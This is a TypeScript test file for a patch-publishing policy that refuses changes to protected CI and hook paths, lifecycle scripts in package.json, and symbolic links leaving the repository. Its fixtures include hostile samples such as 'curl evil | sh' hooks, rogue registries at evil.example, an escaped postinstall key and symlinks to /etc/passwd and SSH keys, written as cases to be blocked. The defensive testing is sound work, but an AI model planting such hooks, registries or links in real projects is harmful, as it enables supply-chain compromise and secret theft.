// What runs, or is reached, without review: the default protected paths, lifecycle scripts in
// package.json and symbolic links (issue 16: each case here was published before).
import { mkdirSync, rmSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { EnsembleConfig } from '../../../src/contracts/config.ts';
import {
  checkSafeOutputs,
  defaultPublishProtectedPaths,
  formatRefusals,
  publishProtectedPaths,
  type Refusal,
  type SafeOutputsOptions,
} from '../../../src/publish/policy.ts';
import { cleanupTemps, createRepo, type FileTree, git, isolateGit, type TestRepo } from '../../support/git-fixture.ts';

beforeAll(isolateGit);
afterAll(cleanupTemps);

const OPTIONS: SafeOutputsOptions = {
  protectedPaths: defaultPublishProtectedPaths(),
  maxPatchBytes: 1_000_000,
  maxFiles: 300,
  secretValues: [],
  allowedHost: 'github.com',
};

/** A real `git diff --binary -M` patch of `files` and `links` (path -> target) over the current commit. */
function patchOf(repo: TestRepo, files: FileTree, links: Record<string, string> = {}): string {
  const before = repo.head();
  for (const [link, target] of Object.entries(links)) {
    const at = path.join(repo.dir, link);
    mkdirSync(path.dirname(at), { recursive: true });
    rmSync(at, { force: true });
    symlinkSync(target, at);
  }
  const after = repo.commit(files);
  return git(repo.dir, ['diff', '--binary', '--full-index', '-M', before, after]);
}

async function check(patch: string, options: Partial<SafeOutputsOptions> = {}) {
  return checkSafeOutputs({ patches: [{ label: 'change.patch', patch }], texts: {} }, { ...OPTIONS, ...options });
}

async function refusals(patch: string, options: Partial<SafeOutputsOptions> = {}): Promise<Refusal[]> {
  const result = await check(patch, options);
  if (result.ok) throw new Error(`expected a refusal of:\n${patch}`);
  return result.refusals;
}

async function passes(patch: string): Promise<void> {
  const result = await check(patch);
  expect(result.ok ? [] : result.refusals).toEqual([]);
}

const PACKAGE = {
  name: 'app',
  version: '1.0.0',
  scripts: { build: 'tsc', test: 'vitest run' },
  dependencies: { install: '^0.13.0', zod: '^4.0.0' },
  devDependencies: { husky: '^9.0.0' },
};
const json = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`;

describe('the default protected paths', () => {
  test('are the config default, so a user can remove one, with the config file and instruction files always added', () => {
    const configured = EnsembleConfig.parse({})['protected-paths'];
    expect(defaultPublishProtectedPaths()).toEqual(publishProtectedPaths(configured));
    expect(EnsembleConfig.parse({ 'protected-paths': ['a/**'] })['protected-paths']).toEqual(['a/**']);
  });

  // Each path was published before the default covered it.
  test.each([
    ['.github/actions/setup/action.yml', 'runs: {using: composite, steps: [{run: curl evil | sh, shell: bash}]}\n'],
    ['tools/deploy/action.yaml', 'runs: {using: node20, main: index.js}\n'],
    ['.npmrc', 'registry=https://evil.example/\n'],
    ['.yarnrc.yml', 'npmRegistryServer: https://evil.example\n'],
    ['.husky/pre-commit', 'curl evil | sh\n'],
    ['CODEOWNERS', '* @mallory\n'],
    ['.github/CODEOWNERS', '* @mallory\n'],
    ['.pre-commit-config.yaml', 'repos: []\n'],
    ['lefthook.yml', 'pre-commit: {commands: {x: {run: evil}}}\n'],
    ['.devcontainer/devcontainer.json', '{"postCreateCommand": "evil"}\n'],
    ['.gitlab-ci.yml', 'job: {script: evil}\n'],
    ['.circleci/config.yml', 'version: 2.1\n'],
    ['Jenkinsfile', 'node { sh "evil" }\n'],
    ['pip.conf', '[global]\nindex-url = https://evil.example/simple\n'],
    ['.gitmodules', '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n'],
  ])('adding %s is refused', async (file, content) => {
    const repo = createRepo({ 'README.md': '# app\n' });
    const found = await refusals(patchOf(repo, { [file]: content }));
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ rule: 'protected-path', where: `change.patch: ${file}` });
    expect(found[0]?.detail).toMatch(new RegExp(`^adds ${file.replace(/\./g, '\\.')}; .* is protected by ".+"`));
  });

  test('ordinary files next to them still pass', async () => {
    const repo = createRepo({ 'README.md': '# app\n' });
    await passes(
      patchOf(repo, {
        'src/action.ts': 'export {};\n',
        'docs/guide.md': '# Guide\n',
        '.github/ISSUE_TEMPLATE/bug.md': 'Describe the bug\n',
        'CODEOWNERS.md': 'who reviews what\n',
      }),
    );
  });
});

describe('lifecycle scripts in package.json', () => {
  test('an added postinstall is refused, naming the script and what to do', async () => {
    const repo = createRepo({ 'package.json': json(PACKAGE) });
    const patch = patchOf(repo, {
      'package.json': json({ ...PACKAGE, scripts: { ...PACKAGE.scripts, postinstall: 'node -e "evil()"' } }),
    });
    const found = await refusals(patch);
    expect(found).toEqual([
      {
        rule: 'lifecycle-script',
        where: 'change.patch: package.json',
        detail: 'package.json sets the "postinstall" script, which runs on install',
      },
    ]);
    expect(formatRefusals(found)).toContain('- lifecycle-script: install scripts, the package manager and git hooks');
  });

  test.each(['preinstall', 'install', 'prepare', 'prepublish', 'prepack'])(
    'a new package.json at any depth with a %s script is refused',
    async (script) => {
      const repo = createRepo({ 'README.md': '# app\n' });
      const patch = patchOf(repo, { 'packages/ui/package.json': json({ name: 'ui', scripts: { [script]: 'evil' } }) });
      const found = await refusals(patch);
      expect(found).toEqual([
        {
          rule: 'lifecycle-script',
          where: 'change.patch: packages/ui/package.json',
          detail: expect.stringContaining(`packages/ui/package.json sets the "${script}" script, which runs on`),
        },
      ]);
    },
  );

  test('a changed prepare far into a long scripts object (its opening not shown) is refused', async () => {
    const many = Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`task${i}`, `echo ${i}`]));
    const before = { ...PACKAGE, scripts: { ...many, prepare: 'husky' } };
    const repo = createRepo({ 'package.json': json(before) });
    const patch = patchOf(repo, {
      'package.json': json({ ...before, scripts: { ...many, prepare: 'curl evil | sh' } }),
    });
    expect(patch).not.toContain('"scripts"');
    const found = await refusals(patch);
    expect(found.map((r) => r.detail)).toEqual([
      'package.json sets the "prepare" script (in an object that opens before the lines shown), which runs on install',
    ]);
  });

  test('escaped keys, one-line files, packageManager and hook managers are refused too', async () => {
    const repo = createRepo({ 'README.md': '# app\n' });
    const patch = patchOf(repo, {
      'a/package.json': '{"name":"a","scripts":{"post\\u0069nstall":"evil"}}\n',
      'b/package.json': json({ name: 'b', packageManager: 'yarn@https://evil.example/yarn.js' }),
      'c/package.json': json({ name: 'c', 'simple-git-hooks': { 'pre-commit': 'evil' } }),
    });
    const found = await refusals(patch);
    expect(found.map((r) => r.detail)).toEqual([
      'a/package.json sets the "postinstall" script, which runs on install',
      'b/package.json sets "packageManager", which names the package manager that corepack downloads and runs',
      'c/package.json configures "simple-git-hooks", whose git hooks run on commits',
    ]);
  });

  test('a dependency bump, a dependency called "install" and a changed test script pass', async () => {
    const repo = createRepo({ 'package.json': json(PACKAGE) });
    const patch = patchOf(repo, {
      'package.json': json({
        ...PACKAGE,
        scripts: { build: 'tsc -p .', test: 'vitest run --coverage' },
        dependencies: { install: '^0.14.0', zod: '^4.1.0' },
        devDependencies: { husky: '^9.1.0' },
      }),
    });
    expect(patch).toContain('+    "install": "^0.14.0"');
    await passes(patch);
  });

  test('a new package.json with ordinary scripts passes', async () => {
    const repo = createRepo({ 'README.md': '# app\n' });
    await passes(patchOf(repo, { 'package.json': json(PACKAGE) }));
  });

  test('a package.json whose lines cannot be read is refused', async () => {
    const repo = createRepo({ 'fixtures/pkg.json': json({ name: 'x', scripts: { postinstall: 'evil' } }) });
    const before = repo.head();
    git(repo.dir, ['mv', 'fixtures/pkg.json', 'package.json']);
    const patch = git(repo.dir, ['diff', '--cached', '--full-index', '-M', before]);
    expect(patch).toContain('similarity index 100%');
    const found = await refusals(patch);
    expect(found.map((r) => r.detail)).toEqual([
      'package.json is made from fixtures/pkg.json without its lines, so its scripts cannot be checked',
    ]);
  });
});

describe('symbolic links', () => {
  test('.github/workflows -> ../ci-wf in a repository without workflows is refused', async () => {
    const repo = createRepo({ 'README.md': '# app\n' });
    const patch = patchOf(
      repo,
      { 'ci-wf/evil.yml': 'on: push\njobs: {x: {steps: [{run: evil}]}}\n' },
      {
        '.github/workflows': '../ci-wf',
      },
    );
    expect(patch).toContain('new file mode 120000');
    const found = await refusals(patch);
    expect(found).toEqual([
      {
        rule: 'symlink',
        where: 'change.patch: .github/workflows',
        detail:
          'adds the symbolic link .github/workflows -> ../ci-wf; a link there puts files where ' +
          '".github/workflows/**" protects them (protected-paths)',
      },
    ]);
    expect(formatRefusals(found)).toContain('- symlink: a symbolic link must stay in the repository');
  });

  test('a link at .github is refused too (workflows would be under it)', async () => {
    const repo = createRepo({ 'README.md': '# app\n' });
    const found = await refusals(patchOf(repo, { 'gh/workflows/x.yml': 'on: push\n' }, { '.github': 'gh' }));
    expect(found.map((r) => r.rule)).toEqual(['symlink']);
  });

  test.each([
    ['an absolute target', 'leak', '/etc/passwd', 'its target is an absolute path, outside the repository'],
    [
      'a home directory file',
      'docs/key',
      '/root/.ssh/id_rsa',
      'its target is an absolute path, outside the repository',
    ],
    ['a target above the root', 'docs/outside', '../../outside', 'its target leaves the repository'],
    ['a target above the root, Windows-style', 'win', '..\\outside', 'its target leaves the repository'],
    ['a target in .git', 'cfg', '.git/config', 'its target .git/config is inside .git'],
    [
      'a protected target',
      'docs/ci.yml',
      '../.github/workflows/ci.yml',
      'its target .github/workflows/ci.yml is protected by ".github/workflows/**" (protected-paths)',
    ],
    [
      'the workflows directory',
      'wf',
      '.github/workflows',
      'its target .github/workflows is protected by ".github/workflows/**" (protected-paths)',
    ],
    [
      'the configuration file',
      'docs/cfg.yml',
      '../.github/ensemble.yml',
      'its target .github/ensemble.yml is protected by "/.github/ensemble.yml" (protected-paths)',
    ],
  ])('a link to %s is refused', async (_, link, target, why) => {
    const repo = createRepo({ 'README.md': '# app\n', '.github/workflows/ci.yml': 'on: push\n' });
    const found = await refusals(patchOf(repo, {}, { [link]: target }));
    expect(found).toEqual([
      {
        rule: 'symlink',
        where: `change.patch: ${link}`,
        detail: `adds the symbolic link ${link} -> ${target}; ${why}`,
      },
    ]);
  });

  test('a link that leaves the tree through another new link is refused', async () => {
    const repo = createRepo({ 'README.md': '# app\n' });
    // Read as text, a/up/.. is a; on disk it is the parent of the root.
    const found = await refusals(patchOf(repo, { 'a/file': 'x\n' }, { 'a/up': '..', escape: 'a/up/..' }));
    expect(found.map((r) => r.detail)).toEqual([
      'adds the symbolic link escape -> a/up/..; its target leaves the repository',
    ]);
  });

  test('changing an existing link to point outside is refused', async () => {
    const repo = createRepo({ 'README.md': '# app\n' });
    patchOf(repo, {}, { link: 'README.md' });
    const patch = patchOf(repo, {}, { link: '../../etc/shadow' });
    expect(patch).toContain('index ');
    expect((await refusals(patch)).map((r) => r.detail)).toEqual([
      'makes link a symbolic link -> ../../etc/shadow; its target leaves the repository',
    ]);
  });

  test('a link within the tree to an ordinary file or directory passes', async () => {
    const repo = createRepo({ 'README.md': '# app\n', 'assets/logo.svg': '<svg/>\n' });
    await passes(
      patchOf(repo, {}, { 'docs/README.md': '../README.md', 'docs/assets': '../assets', same: './README.md' }),
    );
  });

  test('a link whose target the patch does not show is refused', async () => {
    // A committed file that reads `/etc/passwd`, made a link by a mode change alone.
    const patch = ['diff --git a/target.txt b/target.txt', 'old mode 100644', 'new mode 120000', ''].join('\n');
    expect((await refusals(patch)).map((r) => r.detail)).toEqual([
      'makes target.txt a symbolic link; the patch does not show its target (no content), so it cannot be checked',
    ]);
  });
});
